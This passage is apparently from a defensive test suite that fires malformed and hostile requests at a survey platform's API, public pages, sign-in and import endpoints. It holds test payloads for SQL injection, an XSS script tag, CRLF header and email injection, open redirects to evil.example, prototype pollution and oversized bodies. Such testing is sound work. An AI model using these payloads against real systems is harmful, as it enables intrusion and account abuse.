  { name: "invitations: 201-character customer id", request: (f) => invitationsApi(invite(f, { customers: ["c".repeat(201)] }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: expiresInHours -1", request: (f) => invitationsApi(invite(f, { expiresInHours: -1 }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: expiresInHours a billion", request: (f) => invitationsApi(invite(f, { expiresInHours: 1e9 }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: expiresInHours 1e999 (Infinity)", request: (f) => invitationsApi(`{"deployment":${f.survey.deploymentId},"customers":["C-INV"],"expiresInHours":1e999}`)(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: expiresInHours as text", request: (f) => invitationsApi(invite(f, { expiresInHours: "72" }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: unknown deployment", request: (f) => invitationsApi(invite(f, { deployment: 999_999 }))(f), expect: { status: 404, error: "not_found" } },
  { name: "invitations: deployment past a 32-bit id", request: (f) => invitationsApi(invite(f, { deployment: 2 ** 31 }))(f), expect: { status: [400, 404] } },
  { name: "invitations: negative deployment", request: (f) => invitationsApi(invite(f, { deployment: -5 }))(f), expect: { status: 400, error: "invalid_request" } },
  { name: "invitations: 3 MB body", request: invitationsApi("{", big(3 * MB)), expect: { status: 413 } },
  { name: "invitations: 3 MB chunked body", request: invitationsApi("{", big(3 * MB, true)), expect: { status: 413 } },
  { name: "invitations: no token", request: invitationsApi("{}", { auth: undefined }), expect: { status: 401 } },
];

const insights = (query: string, metric = "gaps"): ((f: Fixture) => HostileRequest) => () => ({ path: `/api/v1/insights/${metric}?${query}`, auth: "token" });
const badQuery: Expectation = { status: 400, error: "invalid_query" };
const insightsCases: HostileCase[] = [
  { name: "insights: from in year 0", request: insights("from=0000-01-01&to=2025-01-01"), expect: badQuery },
  { name: "insights: to in 9999", request: insights("from=2025-01-01&to=9999-12-31"), expect: badQuery },
  { name: "insights: from after to", request: insights("from=2025-06-01&to=2025-01-01"), expect: { ...badQuery, says: /after/ } },
  { name: "insights: a thousand years", request: insights("from=1970-01-01&to=2999-12-31"), expect: badQuery },
  { name: "insights: trends over a thousand years", request: insights("from=1970-01-01&to=2999-12-31&bucket=week", "trends"), expect: badQuery },
  { name: "insights: February 30", request: insights("from=2024-02-30&to=2024-03-10"), expect: badQuery },
  { name: "insights: month 13", request: insights("from=2024-13-01"), expect: badQuery },
  { name: "insights: a date with a time", request: insights("from=2024-01-01T00:00:00Z"), expect: badQuery },
  { name: "insights: from as text", request: insights("from=yesterday"), expect: badQuery },
  { name: "insights: unknown grouping", request: insights("by=customer"), expect: badQuery },
  { name: "insights: unknown bucket", request: insights("bucket=year", "trends"), expect: badQuery },
  { name: "insights: trends by attribute", request: insights("by=attribute", "trends"), expect: badQuery },
  { name: "insights: the same tier twice", request: insights("compareA=premium&compareB=premium"), expect: badQuery },
  { name: "insights: unknown tier", request: insights("tier=__proto__"), expect: badQuery },
  { name: "insights: a language that is no code", request: insights("lang=english"), expect: badQuery },
  { name: "insights: script as the journey", request: insights("journey=%3Cscript%3Ealert(1)%3C%2Fscript%3E"), expect: { status: [400, 404] } },
  { name: "insights: NUL in the journey", request: insights("journey=bank%00"), expect: { status: [400, 404] } },
  { name: "insights: SQL injection as the channel", request: insights(`channel=${encodeURIComponent(SQL_INJECTION)}`), expect: badQuery },
  { name: "insights: 8 KB query string", request: insights(`journey=${"j".repeat(8 * KB)}`), expect: { status: [400, 404] } },
  { name: "insights: repeated parameters", request: insights("from=2025-01-01&from=0000-01-01&to=2025-02-01"), expect: { status: [200, 400] } },
  { name: "insights: unknown metric", request: insights("", "constructor"), expect: { status: 404 } },
  { name: "insights: POST", request: (f) => ({ ...insights("")(f), method: "POST", headers: JSON_TYPE, body: "{}" }), expect: { status: 405 } },
  { name: "insights: no token", request: () => ({ path: "/api/v1/insights/gaps" }), expect: { status: 401 } },

  { name: "cases: unknown status", request: () => ({ path: "/api/v1/cases?status=deleted", auth: "token" }), expect: badQuery },
  { name: "cases: updatedSince in year 0", request: () => ({ path: "/api/v1/cases?updatedSince=0000-01-01T00:00:00Z", auth: "token" }), expect: badQuery },
  { name: "cases: updatedSince on February 30", request: () => ({ path: "/api/v1/cases?updatedSince=2024-02-30T00:00:00Z", auth: "token" }), expect: badQuery },
  { name: "cases: negative limit", request: () => ({ path: "/api/v1/cases?limit=-1", auth: "token" }), expect: badQuery },
  { name: "cases: limit NaN", request: () => ({ path: "/api/v1/cases?limit=NaN", auth: "token" }), expect: badQuery },
  { name: "cases: limit Infinity", request: () => ({ path: "/api/v1/cases?limit=Infinity", auth: "token" }), expect: badQuery },
  { name: "cases: limit 1e9", request: () => ({ path: "/api/v1/cases?limit=1e9", auth: "token" }), expect: badQuery },
  { name: "cases: unknown parameter", request: () => ({ path: "/api/v1/cases?__proto__=1", auth: "token" }), expect: badQuery },
  { name: "cases: POST with a body", request: () => ({ method: "POST", path: "/api/v1/cases", headers: JSON_TYPE, body: "{}", auth: "token" }), expect: { status: 405 } },
];

// ---- Public pages ---------------------------------------------------------------------------------

const page =
  (path: (f: Fixture) => string, body: string | Uint8Array, headers: Record<string, string> = FORM, more: Partial<HostileRequest> = {}) =>
  (f: Fixture): HostileRequest => ({ method: "POST", path: path(f), headers, body, ...more });
const survey = (f: Fixture) => `/s/${f.survey.publicToken}`;
const personal = (f: Fixture) => `/s/${f.invitationToken}`;
const pulse = (f: Fixture) => `/p/${f.pulseToken}`;
const submit = (f: Fixture, fields: Record<string, string>) =>
  form({ intent: "submit", version: String(f.survey.versionId), lang: "es", data: json(f.answers), ...fields });
const surveyPost = (fields: (f: Fixture) => Record<string, string>, target = survey) => (f: Fixture) => page(target, submit(f, fields(f)))(f);

const respondentCases: HostileCase[] = [
  { name: "/s: malformed multipart", request: page(survey, MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "/s: garbage under a multipart type", request: page(survey, GARBAGE_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "/s: multipart without a boundary", request: page(survey, MALFORMED_MULTIPART, { "Content-Type": "multipart/form-data" }), expect: BAD_REQUEST },
  { name: "/s: malformed multipart to the data URL", request: page((f) => `${survey(f)}.data`, MALFORMED_MULTIPART, MULTIPART), expect: { status: [200, 400] } },
  { name: "/s: JSON body", request: page(survey, json({ intent: "submit" }), JSON_TYPE), expect: { status: 415 } },
  { name: "/s: text/plain body", request: page(survey, "intent=submit", { "Content-Type": "text/plain" }), expect: { status: 415 } },
  { name: "/s: no content type", request: page(survey, "intent=submit", {}), expect: { status: [400, 415] } },
  { name: "/s: 2 MB body", request: page(survey, "intent=submit&data=", FORM, big(2 * MB)), expect: { status: 413 } },
  { name: "/s: 2 MB chunked body", request: page(survey, "intent=submit&data=", FORM, big(2 * MB, true)), expect: { status: 413 } },
  { name: "/s: 20 MB body", request: page(survey, "", FORM, big(20 * MB)), expect: { status: 413 } },
  { name: "/s: 100,000-deep answers", request: surveyPost(() => ({ data: deepArray(100_000) })), expect: { status: 400, says: /32/ } },
  { name: "/s: __proto__ in the answers", request: surveyPost(() => ({ data: '{"__proto__":{"x":1},"nps":5}' })), expect: { status: 400, says: /__proto__/ } },
  { name: "/s: constructor in the answers", request: surveyPost(() => ({ data: '{"constructor":{"prototype":1}}' })), expect: { status: 400, says: /constructor/ } },
  { name: "/s: NUL in a field", request: surveyPost(() => ({ lang: "es\u0000" })), expect: BAD_REQUEST },
  { name: "/s: NUL escape in the answers", request: surveyPost((f) => ({ data: json({ ...f.answers, comment: "a\u0000b" }) })), expect: { status: 400, says: /NUL/ } },
  { name: "/s: answers that are not JSON", request: surveyPost(() => ({ data: "{nope" })), expect: BAD_REQUEST },
  { name: "/s: answers out of range", request: surveyPost((f) => ({ data: json({ ...f.answers, nps: 11 }) })), expect: BAD_REQUEST },
  { name: "/s: negative version", request: surveyPost(() => ({ version: "-1" })), expect: BAD_REQUEST },
  { name: "/s: version NaN", request: surveyPost(() => ({ version: "NaN" })), expect: BAD_REQUEST },
  { name: "/s: version Infinity", request: surveyPost(() => ({ version: "Infinity" })), expect: BAD_REQUEST },
  { name: "/s: version 1e309", request: surveyPost(() => ({ version: "1e309" })), expect: BAD_REQUEST },
  { name: "/s: version past a 32-bit id", request: surveyPost(() => ({ version: String(2 ** 31) })), expect: BAD_REQUEST },
  { name: "/s: unknown language", request: surveyPost(() => ({ lang: "fr" })), expect: BAD_REQUEST },
  { name: "/s: unknown intent", request: page(survey, form({ intent: "delete" })), expect: BAD_REQUEST },
  { name: "/s: startedAt negative", request: surveyPost(() => ({ startedAt: "-1" })), expect: BAD_REQUEST },
  { name: "/s: startedAt 1e20", request: surveyPost(() => ({ startedAt: "1e20" })), expect: BAD_REQUEST },
  { name: "/s: submission id with a newline", request: surveyPost(() => ({ submission: "abcdefghijklmnop\nq" })), expect: BAD_REQUEST },
  { name: "/s: 70 KB submission id", request: surveyPost(() => ({ submission: "s".repeat(70 * KB) })), expect: BAD_REQUEST },
  { name: "/s: progress 100,000 deep", request: page(survey, form({ intent: "progress", progress: deepArray(30_000) })), expect: BAD_REQUEST },
  { name: "/s: progress with __proto__", request: page(personal, form({ intent: "progress", progress: '{"data":{"__proto__":{"x":1}},"page":0}' })), expect: BAD_REQUEST },
  { name: "/s: progress not JSON", request: page(personal, form({ intent: "progress", progress: "{" })), expect: BAD_REQUEST },
  { name: "/s: personal link, deep answers", request: surveyPost(() => ({ data: deepObject(50_000) }), personal), expect: BAD_REQUEST },
  { name: "/s: unknown token", request: page(() => "/s/AAAAAAAAAAAAAAAAAAAAAA", form({ intent: "submit" })), expect: { status: 404 } },
  { name: "/s: token with a NUL", request: page(() => "/s/abc%00defghijklmnopqrstu", form({ intent: "submit" })), expect: { status: 404 } },
  { name: "/s: 10 KB token", request: page(() => `/s/${"t".repeat(10 * KB)}`, form({ intent: "submit" })), expect: { status: 404 } },
  { name: "/s: SQL injection as the token", request: () => ({ path: `/s/${encodeURIComponent(SQL_INJECTION)}` }), expect: { status: 404 } },
  { name: "/s: invalid UTF-8 in the path", request: (f) => ({ path: "", raw: rawRequest(f.port, "GET", "/s/%FF%FE%00", []) }), expect: { status: [400, 404] } },
  { name: "/s: invalid UTF-8 in the body", request: page(survey, new Uint8Array([...Buffer.from("intent=submit&data="), 0xff, 0xfe, 0xfd])), expect: BAD_REQUEST },

  { name: "/p: malformed multipart", request: page(pulse, MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "/p: garbage under a multipart type", request: page(pulse, GARBAGE_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "/p: JSON body", request: page(pulse, "{}", JSON_TYPE), expect: { status: 415 } },
  { name: "/p: 1 MB body", request: page(pulse, "data=", FORM, big(MB)), expect: { status: 413 } },
  { name: "/p: 1 MB chunked body", request: page(pulse, "data=", FORM, big(MB, true)), expect: { status: 413 } },
  { name: "/p: 100,000-deep answers", request: page(pulse, form({ data: deepArray(30_000) })), expect: { status: 400, says: /32/ } },
  { name: "/p: __proto__ in the answers", request: page(pulse, form({ data: '{"__proto__":{"x":1}}' })), expect: { status: 400, says: /__proto__/ } },
  { name: "/p: NUL in the answers", request: page(pulse, form({ data: '{"a":"\u0000"}' })), expect: BAD_REQUEST },
  { name: "/p: answers not an object", request: page(pulse, form({ data: "[1,2]" })), expect: BAD_REQUEST },
  { name: "/p: answers out of range", request: page(pulse, form({ data: json({ group: "employee", knows: 99, applies: -1, supported: "x" }) })), expect: BAD_REQUEST },
  { name: "/p: unknown token", request: page(() => "/p/AAAAAAAAAAAAAAAAAAAAAA", form({ data: "{}" })), expect: { status: 404 } },
  { name: "/p: token with a NUL", request: page(() => "/p/abc%00defghijklmnopqrstu", form({ data: "{}" })), expect: { status: 404 } },

  { name: "/invite: unknown token", request: () => ({ path: "/invite/AAAAAAAAAAAAAAAAAAAAAA" }), expect: { status: 200 } },
  { name: "/invite: token with a NUL", request: () => ({ path: "/invite/abc%00def" }), expect: { status: [200, 404] } },
  { name: "/invite: 10 KB token", request: () => ({ path: `/invite/${"t".repeat(10 * KB)}` }), expect: { status: 200 } },
  { name: "/invite: POST without a session", request: page((f) => `/invite/${f.inviteToken}`, form({})), expect: { status: [302, 303] } },
  { name: "/invite: malformed multipart", request: page((f) => `/invite/${f.inviteToken}`, MALFORMED_MULTIPART, MULTIPART), expect: { status: [302, 303, 400] } },
  { name: "/invite: 2 MB body", request: page((f) => `/invite/${f.inviteToken}`, "", FORM, big(2 * MB)), expect: { status: 413 } },
  { name: "/invite: 2 MB chunked body", request: page((f) => `/invite/${f.inviteToken}`, "", FORM, big(2 * MB, true)), expect: { status: 413 } },
  { name: "/invite: JSON body", request: page((f) => `/invite/${f.inviteToken}`, "{}", JSON_TYPE), expect: { status: 415 } },
];

// ---- Sign-in and sign-up --------------------------------------------------------------------------

const login = (fields: Record<string, string>) => page(() => "/login", form({ email: "nobody@x.test", password: "wrong-password", ...fields }));
const signup = (fields: Record<string, string>) => page(() => "/signup", form({ name: "Eve", email: "eve@x.test", password: "a-long-password", ...fields }));
const authCases: HostileCase[] = [
  { name: "login: malformed multipart", request: page(() => "/login", MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "login: JSON body", request: page(() => "/login", json({ email: "a@b.test", password: "x" }), JSON_TYPE), expect: { status: 415 } },
  { name: "login: 20 MB body", request: page(() => "/login", "email=a%40b.test&password=", FORM, big(20 * MB)), expect: { status: 413 } },
  { name: "login: 20 MB chunked body", request: page(() => "/login", "email=a%40b.test&password=", FORM, big(20 * MB, true)), expect: { status: 413 } },
  { name: "login: NUL in the email", request: login({ email: "ana\u0000@x.test" }), expect: BAD_REQUEST },
  { name: "login: NUL in the password", request: login({ password: "pass\u0000word" }), expect: BAD_REQUEST },
  { name: "login: SQL injection as the email", request: login({ email: "' OR 1=1 --@x.test" }), expect: BAD_REQUEST },
  { name: "login: SQL injection as the password", request: login({ password: "' OR '1'='1" }), expect: { ...BAD_REQUEST, checksPassword: true } },
  { name: "login: 100 KB password", request: login({ password: "p".repeat(100 * KB) }), expect: { ...BAD_REQUEST, checksPassword: true } },
  { name: "login: invalid UTF-8", request: page(() => "/login", new Uint8Array([...Buffer.from("email="), 0xff, 0xfe, ...Buffer.from("@x.test&password=x")])), expect: BAD_REQUEST },
  { name: "login: CRLF in redirectTo", request: login({ redirectTo: "/workspaces\r\nSet-Cookie: owned=1" }), expect: { ...BAD_REQUEST, checksPassword: true } },
  { name: "login: a foreign redirectTo", request: login({ redirectTo: "https://evil.example/" }), expect: { ...BAD_REQUEST, checksPassword: true } },
  { name: "login: the same field twice", request: page(() => "/login", "email=a@b.test&email=c@d.test&password=x"), expect: { ...BAD_REQUEST, checksPassword: true } },
  { name: "login: fields with array syntax", request: page(() => "/login", "email[]=a@b.test&password[$ne]=x"), expect: BAD_REQUEST },

  { name: "signup: malformed multipart", request: page(() => "/signup", MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "signup: garbage under a multipart type", request: page(() => "/signup", GARBAGE_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "signup: JSON body", request: page(() => "/signup", json({ name: "Eve", email: "eve@x.test", password: "a-long-password" }), JSON_TYPE), expect: { status: 415 } },
  { name: "signup: XML body", request: page(() => "/signup", "<signup/>", { "Content-Type": "text/xml" }), expect: { status: 415 } },
  { name: "signup: 20 MB body", request: page(() => "/signup", "name=Eve&email=eve%40x.test&password=", FORM, big(20 * MB)), expect: { status: 413 } },
  { name: "signup: 20 MB chunked body", request: page(() => "/signup", "name=Eve&email=eve%40x.test&password=", FORM, big(20 * MB, true)), expect: { status: 413 } },
  { name: "signup: 20 MB multipart", request: page(() => "/signup", `--${BOUNDARY}\r\nContent-Disposition: form-data; name="name"\r\n\r\n`, MULTIPART, big(20 * MB)), expect: { status: 413 } },
  { name: "signup: NUL in the name", request: signup({ name: "Eve\u0000" }), expect: BAD_REQUEST },
  { name: "signup: NUL in the email", request: signup({ email: "eve\u0000@x.test" }), expect: BAD_REQUEST },
  { name: "signup: 100,000-character name", request: signup({ name: "n".repeat(100_000) }), expect: BAD_REQUEST },
  { name: "signup: 10,000-character email", request: signup({ email: `${"e".repeat(10_000)}@x.test` }), expect: BAD_REQUEST },
  { name: "signup: 10,000-character password", request: signup({ password: "p".repeat(10_000) }), expect: BAD_REQUEST },
  { name: "signup: short password", request: signup({ password: "short" }), expect: BAD_REQUEST },
  { name: "signup: email with a newline", request: signup({ email: "eve@x.test\nBcc: all@x.test" }), expect: BAD_REQUEST },
  { name: "signup: the email already taken", request: signup({ email: "owner@hostile.test" }), expect: BAD_REQUEST },
  { name: "signup: taken email in capitals", request: signup({ email: "OWNER@HOSTILE.TEST" }), expect: { status: [400] } },
  { name: "signup: CRLF in redirectTo, invalid form", request: signup({ password: "x", redirectTo: "/\r\nLocation: https://evil.example" }), expect: BAD_REQUEST },
  { name: "signup: invalid UTF-8 in the name", request: page(() => "/signup", new Uint8Array([...Buffer.from("name="), 0xc3, 0x28, ...Buffer.from("&email=not-an-email&password=a-long-password")])), expect: BAD_REQUEST },
  { name: "lang: malformed multipart", request: page(() => "/lang", MALFORMED_MULTIPART, MULTIPART), expect: { status: [302, 303] } },
  { name: "lang: JSON body", request: page(() => "/lang", '{"lang":"en"}', JSON_TYPE), expect: { status: 415 } },
  { name: "lang: CRLF in redirectTo", request: page(() => "/lang", form({ lang: "en", redirectTo: "/x\r\nSet-Cookie: owned=1" })), expect: { status: [302, 303], header: ["Location", /^[^\r\n]*$/] } },
  { name: "lang: foreign redirectTo", request: page(() => "/lang", form({ lang: "en", redirectTo: "//evil.example/" })), expect: { status: [302, 303], header: ["Location", /^\/(?!\/)/] } },
];

// ---- Imports and the survey editor (signed in as an admin) ----------------------------------------

const signedIn =
  (path: (f: Fixture) => string, body: string | Uint8Array, headers: Record<string, string> = FORM, more: Partial<HostileRequest> = {}) =>
  (f: Fixture): HostileRequest => ({ method: "POST", path: path(f), headers, body, auth: "session", ...more });
const csv = (f: Fixture) => `/w/${f.slug}/crm/import`;
const journeys = (f: Fixture) => `/w/${f.slug}/journeys`;
const editor = (f: Fixture) => `/w/${f.slug}/surveys/${f.survey.surveyId}`;
/** The start of a journey file upload whose file goes on and on. */
const journeyFilePrefix = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="journey.json"\r\nContent-Type: application/json\r\n\r\n`;
const journeyFile = (content: string) => multipart([{ name: "intent", value: "import" }, { name: "file", value: content, filename: "journey.json" }]);
const sample = () => JSON.parse(sampleText("ecommerce-order-to-delivery.json")) as Record<string, unknown> & { stages: Record<string, unknown>[] };
const REDIRECT = { status: [302, 303] } as const;

const importCases: HostileCase[] = [
  { name: "csv import: malformed multipart", request: signedIn(csv, MALFORMED_MULTIPART, MULTIPART), expect: REDIRECT },
  { name: "csv import: garbage under a multipart type", request: signedIn(csv, GARBAGE_MULTIPART, MULTIPART), expect: REDIRECT },
  { name: "csv import: multipart without a boundary", request: signedIn(csv, MALFORMED_MULTIPART, { "Content-Type": "multipart/form-data" }), expect: { status: [302, 303, 400] } },
  { name: "csv import: no file", request: signedIn(csv, multipart([{ name: "kind", value: "customers" }]), MULTIPART), expect: REDIRECT },
  { name: "csv import: unknown kind", request: signedIn(csv, multipart([{ name: "kind", value: "__proto__" }, { name: "file", value: "external_id\nC-1\n", filename: "c.csv" }]), MULTIPART), expect: REDIRECT },
  { name: "csv import: NUL bytes and formulas in the file", request: signedIn(csv, multipart([{ name: "kind", value: "customers" }, { name: "file", value: `external_id,name\nC-1,\u0000\u0000\nC-2,${FORMULA}\n`, filename: "c.csv" }]), MULTIPART), expect: REDIRECT },
  { name: "csv import: a file declared over 128 MB", request: (f) => ({ path: "", raw: [`POST ${csv(f)} HTTP/1.1`, `Host: 127.0.0.1:${f.port}`, "Connection: close", `Cookie: ${f.cookie}`, `Content-Type: multipart/form-data; boundary=${BOUNDARY}`, `Content-Length: ${200 * MB}`, "", `--${BOUNDARY}\r\n`].join("\r\n") }), expect: REDIRECT },
  { name: "csv import: JSON body", request: signedIn(csv, "{}", JSON_TYPE), expect: { status: 415 } },
  { name: "csv import: 1 MB url-encoded body", request: signedIn(csv, "intent=start&job=", FORM, big(MB)), expect: { status: 413 } },
  { name: "csv import: 1 MB chunked url-encoded body", request: signedIn(csv, "intent=start&job=", FORM, big(MB, true)), expect: { status: 413 } },
  { name: "csv import: start an unknown job", request: signedIn(csv, form({ intent: "start", job: "nope" })), expect: { status: [400, 404] } },
  { name: "csv import: start with SQL injection as the job", request: signedIn(csv, form({ intent: "start", job: SQL_INJECTION })), expect: { status: [400, 404] } },
  { name: "csv import: NUL in the job", request: signedIn(csv, form({ intent: "start", job: "a\u0000b" })), expect: { status: [400, 404] } },
  { name: "csv import: page asked for a job id with a NUL", request: (f) => ({ path: `${csv(f)}?job=abc%00def`, auth: "session" }), expect: { status: 200 } },
  { name: "csv import: page asked for a 10 KB job id", request: (f) => ({ path: `${csv(f)}?job=${"j".repeat(10 * KB)}`, auth: "session" }), expect: { status: 200 } },
  { name: "csv import: without a session", request: signedIn(csv, multipart([{ name: "kind", value: "customers" }]), MULTIPART, { auth: undefined }), expect: REDIRECT },

  { name: "journey import: malformed multipart", request: signedIn(journeys, MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: garbage under a multipart type", request: signedIn(journeys, GARBAGE_MULTIPART, MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: JSON body", request: signedIn(journeys, sampleText("ecommerce-order-to-delivery.json"), JSON_TYPE), expect: { status: 415 } },
  { name: "journey import: 100,000-deep file", request: signedIn(journeys, journeyFile(deepObject(100_000)), MULTIPART), expect: { status: 400, says: /32 levels/ } },
  { name: "journey import: __proto__ in a stage", request: signedIn(journeys, journeyFile(json(sample()).replace('"stages":[{', '"stages":[{"__proto__":{"x":1},')), MULTIPART), expect: { status: 400, says: /stages\[0\]\.__proto__/ } },
  { name: "journey import: constructor at the top", request: signedIn(journeys, journeyFile('{"constructor":{"prototype":{}}}'), MULTIPART), expect: { status: 400, says: /constructor/ } },
  { name: "journey import: NUL escape in a name", request: signedIn(journeys, journeyFile(json({ ...sample(), name: "Journey\u0000" })), MULTIPART), expect: { status: 400, says: /NUL/ } },
  { name: "journey import: not JSON", request: signedIn(journeys, journeyFile("{ nope"), MULTIPART), expect: { status: 400, says: /line 1/ } },
  { name: "journey import: invalid UTF-8 in the file", request: signedIn(journeys, journeyFile('{"format":"\xff\xfe"}'), MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: a 3 MB file", request: signedIn(journeys, journeyFile(" ".repeat(3 * MB) + "{}"), MULTIPART), expect: { status: 413 } },
  { name: "journey import: a 9 MB body", request: signedIn(journeys, journeyFilePrefix, MULTIPART, big(9 * MB)), expect: { status: 413 } },
  { name: "journey import: a 9 MB chunked body", request: signedIn(journeys, journeyFilePrefix, MULTIPART, big(9 * MB, true)), expect: { status: 413 } },
  { name: "journey import: deep JSON pasted as text", request: signedIn(journeys, form({ intent: "import", content: deepArray(50_000) })), expect: { status: 400, says: /32 levels/ } },
  { name: "journey import: a 10,000-character key", request: signedIn(journeys, journeyFile(json({ ...sample(), key: "k".repeat(10_000) })), MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: SQL injection as the key", request: signedIn(journeys, journeyFile(json({ ...sample(), key: SQL_INJECTION })), MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: NaN as a target duration", request: signedIn(journeys, journeyFile(json(sample()).replace(/"targetDurationMinutes":(\d+|null)/, '"targetDurationMinutes":NaN')), MULTIPART), expect: BAD_REQUEST },
  { name: "journey import: NUL in a form field", request: signedIn(journeys, form({ intent: "create", key: "k\u0000", name: "x" })), expect: BAD_REQUEST },

  { name: "survey editor: 40,000-deep definition", request: signedIn(editor, form({ intent: "save", definition: deepObject(40_000) })), expect: { status: 400, says: /32 levels/ } },
  { name: "survey editor: __proto__ in the definition", request: signedIn(editor, form({ intent: "save", definition: '{"pages":[{"name":"p","elements":[]}],"__proto__":{"x":1}}' })), expect: { status: 400, says: /__proto__/ } },
  { name: "survey editor: NUL escape in a title", request: signedIn(editor, form({ intent: "save", definition: '{"title":"a\\u0000b","pages":[]}' })), expect: { status: 400, says: /NUL/ } },
  { name: "survey editor: a 9 MB body", request: signedIn(editor, "intent=save&definition=", FORM, big(9 * MB)), expect: { status: 413 } },
  { name: "survey editor: JSON body", request: signedIn(editor, "{}", JSON_TYPE), expect: { status: 415 } },
  { name: "survey editor: malformed multipart", request: signedIn(editor, MALFORMED_MULTIPART, MULTIPART), expect: BAD_REQUEST },
];

const CASES: HostileCase[] = [...responsesCases, ...crmCases, ...invitationCases, ...insightsCases, ...respondentCases, ...authCases, ...importCases];

// ---- Running a case ----------------------------------------------------------------------------------

type Answer = RawAnswer;

/** A request of the table with a body streamed over a socket until the server answers. */
function sendStreamed(f: Fixture, request: HostileRequest, signal: AbortSignal): Promise<Answer> {
  const headers = { ...request.headers };
  if (request.auth === "token") headers.Authorization = `Bearer ${f.token}`;
  if (request.auth === "session") headers.Cookie = f.cookie;
  const { size, chunked } = request.stream!;
  return sendStreaming(f.port, { method: request.method ?? "POST", path: request.path, headers, prefix: request.body ?? "", size, chunked }, signal);
}

/** A small body streamed through fetch without a Content-Length (Transfer-Encoding: chunked). */
function chunkedStream(body: string | Uint8Array): ReadableStream<Uint8Array> {
  const bytes = typeof body === "string" ? Buffer.from(body) : body;
  let at = 0;
  return new ReadableStream({
    pull(controller) {
      if (at >= bytes.length) return controller.close();
      controller.enqueue(bytes.subarray(at, at + 64 * KB));
      at += 64 * KB;
    },
  });
}

async function send(f: Fixture, request: HostileRequest, signal: AbortSignal): Promise<Answer> {
  if (request.raw !== undefined) return sendRaw(f.port, request.raw, signal);
  if (request.stream !== undefined) return sendStreamed(f, request, signal);
  const headers = new Headers(request.headers);
  if (request.auth === "token") headers.set("Authorization", `Bearer ${f.token}`);
  if (request.auth === "session") headers.set("Cookie", f.cookie);
  const init: RequestInit & { duplex?: "half" } = { method: request.method ?? "GET", headers, redirect: "manual", signal };
  if (request.body !== undefined) {
    if (request.chunked) {
      init.body = chunkedStream(request.body);
      init.duplex = "half";
    } else init.body = typeof request.body === "string" ? request.body : Buffer.from(request.body);
  }
  let res: Response;
  try {
    res = await fetch(`http://127.0.0.1:${f.port}${request.path}`, init);
  } catch (error) {
    // A keep-alive socket the server closed after refusing the previous case's body (it cuts such
    // connections) may be picked for this request before the close is seen: the request never
    // reached the server. Sent again, on a new connection.
    if ((error as { cause?: { code?: string } }).cause?.code !== "UND_ERR_SOCKET" || request.chunked) throw error;
    res = await fetch(`http://127.0.0.1:${f.port}${request.path}`, init);
  }
  return { status: res.status, headers: res.headers, text: await res.text() };
}

// ---- The suite -----------------------------------------------------------------------------------

let server: RunningServer;
let fixture: Fixture;

/** The session cookie of a sign-in through the form. */
async function sessionCookie(base: string, email: string): Promise<string> {
  const res = await fetch(`${base}/login`, { method: "POST", body: new URLSearchParams({ email, password: PASSWORD }), redirect: "manual" });
  if (res.status !== 302) throw new Error(`sign-in failed: ${res.status}`);
  return res.headers
    .getSetCookie()
    .map((c) => c.split(";")[0])
    .join("; ");
}

beforeAll(async () => {
  const owner = await makeUser("owner@hostile.test");
  const ws = await makeWorkspace("hostile", owner.id);
  await importSample(ws.id, "telecom-installation-and-repair.json");
  const survey = await makeSurveyFixture(ws.id, { touchpointKey: "telco-technician-visit" });
  const answers = ratingAnswers(survey.json, (min, max) => Math.min(max, Math.max(min, 5)));
  const invitation = await makeInvitation(survey, await makeCustomer(ws.id, "C-INVITED"));
  const pulseToken = (await createPulse(ws.id, { title: "Pulse", opensOn: "2020-01-01", closesOn: null }, owner.id)).publicToken;
  const invited = await inviteMember(ws.id, "guest@hostile.test", "manager", owner.id);
  if (invited.kind !== "invited") throw new Error("no invite");
  const token = await createApiToken(ws.id, "hostile", owner.id);
  // Rate limits are another suite's subject: here they must not answer 429 in place of the case's answer.
  const unlimited = Object.fromEntries(
    ["SIGN_IN_ACCOUNT", "SIGN_IN_ADDRESS", "SIGN_UP_ADDRESS", "RESPOND_TOKEN", "RESPOND_ADDRESS"].map((name) => [`RATE_LIMIT_${name}`, "1000000/60"]),
  );
  server = await startServer(dbFile, unlimited);
  // The server makes the decoy hash unknown e-mails are checked against on first use: not in a case.
  await fetch(`${server.url}/login`, { method: "POST", body: new URLSearchParams({ email: "nobody@hostile.test", password: "not-the-password" }) });
  const usedKey = "hostile-key-0001";
  const usedBody = { deployment: survey.deploymentId, customer: "C-KEY", answers: { ...answers, nps: 7 } };
  const first = await fetch(`${server.url}/api/v1/responses`, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${token}`, "Idempotency-Key": usedKey },
    body: JSON.stringify(usedBody),
  });
  if (first.status !== 201) throw new Error(`first use of the key: ${first.status} ${await first.text()}`);
  fixture = {
    token,
    slug: ws.slug,
    survey,
    answers,
    invitationToken: invitation.token,
    pulseToken,
    inviteToken: invited.token,
    usedKey,
    usedBody,
    cookie: await sessionCookie(server.url, "owner@hostile.test"),
    port: server.port,
  };
  console.log(`hostile-input: ${CASES.length} cases`);
});

afterAll(async () => {
  if (process.env.HOSTILE_DEBUG) console.log(server?.output());
  await server?.stop();
  removeDatabase(dbFile);
});

describe("hostile input", () => {
  it(`has at least 200 cases (${CASES.length})`, () => {
    expect(CASES.length).toBeGreaterThanOrEqual(200);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
  });

  for (const { name, request, expect: expected } of CASES) {
    it(name, async () => {
      const before = await counts();
      const started = performance.now();
      const within = WITHIN_MS + (expected.checksPassword ? PASSWORD_CHECK_MS : 0);
